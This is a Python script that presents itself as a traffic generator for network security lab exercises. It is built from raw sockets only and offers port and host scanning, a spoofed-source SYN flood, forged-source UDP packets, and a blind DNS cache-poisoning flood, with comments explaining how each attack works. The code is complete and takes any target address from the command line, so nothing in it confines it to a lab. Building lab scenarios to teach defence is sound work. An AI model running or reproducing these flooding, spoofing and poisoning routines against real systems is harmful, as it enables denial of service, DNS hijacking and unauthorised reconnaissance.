#!/usr/bin/python3
"""Traffic generators for the security/addressing lab scenarios, with the
standard library only (plain and raw sockets; no scapy, nmap or hping3 on
these machines). Run inside a lab namespace by the scenario scripts; every
address comes from the command line, so nothing is sent outside the lab.

  probe.py portscan DST PORT_FROM PORT_TO        TCP connect() to each port
  probe.py hostscan NET_PREFIX FIRST LAST PORT   TCP connect() to PORT on each host
  probe.py synflood DST PORT COUNT RATE SRC_NET  raw SYNs from random SRC_NET/16 sources
  probe.py spoof DST SRC...                      one UDP datagram from each forged source
  probe.py dnsspoof DST SRC COUNT                DNS answers nobody asked for, from SRC:53
  probe.py ttl DST PORT MAX_TTL                  UDP probes with TTL 1..MAX_TTL (traceroute)
"""
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_header(src: str, dst: str, proto: int, payload_len: int, ident: int) -> bytes:
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, 0x4000, 64, proto, 0,
                      socket.inet_aton(src), socket.inet_aton(dst))
    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]


def tcp_syn(src: str, dst: str, sport: int, dport: int, seq: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    return tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def udp(src: str, dst: str, sport: int, dport: int, payload: bytes) -> bytes:
    hdr = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, len(hdr) + len(payload))
    return hdr[:6] + struct.pack("!H", checksum(pseudo + hdr + payload) or 0xFFFF) + payload


def raw_socket() -> socket.socket:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    return s


def connect(dst: str, port: int, timeout: float) -> str:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    try:
        s.connect((dst, port))
        return "open"
    except ConnectionRefusedError:
        return "closed"
    except OSError:
        return "filtered"
    finally:
        s.close()


def portscan(dst, first, last):
    found = [p for p in range(int(first), int(last) + 1) if connect(dst, p, 0.3) == "open"]
    print(f"open ports on {dst}: {found}")


def hostscan(prefix, first, last, port):
    for i in range(int(first), int(last) + 1):
        print(f"{prefix}.{i}:{port} {connect(f'{prefix}.{i}', int(port), 0.3)}")
        time.sleep(0.05)  # paced like a scanner avoiding rate limits


def synflood(dst, port, count, rate, src_net):
    # Forged sources: the SYN-ACKs go to addresses that never answer, so the
    # server's half-open connections pile up (the classic spoofed flood).
    s = raw_socket()
    a, b = (int(x) for x in src_net.split(".")[:2])
    gap = 1.0 / float(rate)
    for i in range(int(count)):
        src = f"{a}.{b + random.randint(0, 1)}.{random.randint(0, 255)}.{random.randint(1, 254)}"
        seg = tcp_syn(src, dst, random.randint(1024, 65535), int(port), random.getrandbits(32))
        s.sendto(ipv4_header(src, dst, 6, len(seg), i & 0xFFFF) + seg, (dst, 0))
        time.sleep(gap)


def spoof(dst, *sources):
    s = raw_socket()
    for i, src in enumerate(sources):
        d = udp(src, dst, 40000 + i, 9, b"lab forged source\n")
        s.sendto(ipv4_header(src, dst, 17, len(d), 0x100 + i) + d, (dst, 0))
        time.sleep(0.2)


def dns_answer(ident: int, name: str, addr: str) -> bytes:
    q = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
    ans = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(addr)
    return struct.pack("!HHHHHH", ident, 0x8180, 1, 1, 0, 0) + q + ans


def dnsspoof(dst, src, count):
    # A blind cache-poisoning attempt: guessed ids and ports, answers that
    # match no query the client sent.
    s = raw_socket()
    for i in range(int(count)):
        payload = dns_answer(random.getrandbits(16), "www.example.net", "10.77.1.66")
        d = udp(src, dst, 53, random.randint(32768, 60999), payload)
        s.sendto(ipv4_header(src, dst, 17, len(d), 0x200 + i) + d, (dst, 0))
        time.sleep(0.1)


def ttl(dst, port, max_ttl):
    for t in range(1, int(max_ttl) + 1):
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, t)
        u.sendto(b"lab traceroute", (dst, int(port) + t))
        u.close()
        time.sleep(0.3)


def main():
    cmds = {"portscan": portscan, "hostscan": hostscan, "synflood": synflood, "spoof": spoof,
            "dnsspoof": dnsspoof, "ttl": ttl}
    if len(sys.argv) < 2 or sys.argv[1] not in cmds:
        sys.exit(__doc__)
    cmds[sys.argv[1]](*sys.argv[2:])


if __name__ == "__main__":
    main()
